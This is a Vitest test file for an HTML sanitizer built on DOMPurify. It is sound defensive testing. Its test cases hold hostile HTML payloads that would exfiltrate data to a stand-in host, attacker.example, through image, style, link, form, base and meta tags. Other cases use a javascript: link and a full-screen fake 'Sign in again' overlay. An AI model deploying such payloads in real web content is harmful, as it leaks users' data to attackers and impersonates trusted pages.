// @vitest-environment jsdom
import DOMPurify from 'dompurify';
import { describe, expect, it } from 'vitest';
import { allowedUrl, sanitizeHtml, type DOMPurifyInstance } from './sanitizeHtml';

/** Hostile author HTML (issue 22 item 7): it may neither leak data to another site nor cover the page. */
const purifier = DOMPurify(window) as unknown as DOMPurifyInstance;
const clean = (html: string, allowedHosts?: string[]) =>
  sanitizeHtml(purifier, html, allowedHosts ? { allowedHosts } : {});

describe('author HTML cannot leak', () => {
  it.each([
    ["<img src='http://attacker.example/leak?patient=Ada%2019121212'>", 'an image on another host'],
    ["<img srcset='http://attacker.example/leak 1x' src='data:image/png;base64,AAAA'>", 'a srcset'],
    ['<p style="background:url(\'http://attacker.example/leak\')">x</p>', 'a url() in a style'],
    ["<a href='http://attacker.example/leak?patient=Ada'>guideline</a>", 'a link to another host'],
    ["<a href='javascript:alert(1)'>x</a>", 'a javascript: link'],
  ])('removes %s (%s)', (html) => {
    const out = clean(html);
    expect(out).not.toContain('attacker.example');
    expect(out).not.toContain('javascript:');
  });

  it('keeps data URIs of images, the page’s own origin and hosts the page allows', () => {
    expect(clean("<img src='data:image/png;base64,AAAA'>")).toContain('data:image/png;base64,AAAA');
    expect(clean(`<img src='${window.location.origin}/assets/x.png'>`)).toContain('/assets/x.png');
    expect(clean("<img src='https://images.example.org/x.png'>", ['images.example.org'])).toContain(
      'https://images.example.org/x.png',
    );
    expect(
      allowedUrl('https://IMAGES.example.org:8443/x.png', 'image', { allowedHosts: ['images.example.org'] }),
    ).toBe(true);
    expect(allowedUrl('http://other.example/x.png', 'image', { allowedHosts: ['images.example.org'] })).toBe(
      false,
    );
  });
});

describe('author HTML cannot impersonate', () => {
  it('strips positioning that escapes the component box, and keeps harmless style', () => {
    const out = clean(
      '<div style="position:fixed;top:0;left:0;width:100vw;height:100vh;z-index:99999;color:red">Sign in again</div>',
    );
    expect(out).not.toMatch(/position|z-index|top:|left:/);
    expect(out).toContain('color: red');
    expect(clean('<p style="transform: translate(0, -500px)">x</p>')).not.toContain('transform');
  });

  it('forbids style, form, base, meta and link elements', () => {
    const out = clean(
      '<style>body{display:none}</style><form action="http://attacker.example"><input></form><base href="http://attacker.example/"><meta http-equiv="refresh" content="0;url=http://attacker.example"><link rel="stylesheet" href="http://attacker.example/x.css">',
    );
    expect(out).not.toMatch(/<style|<form|<base|<meta|<link|attacker/);
  });
});
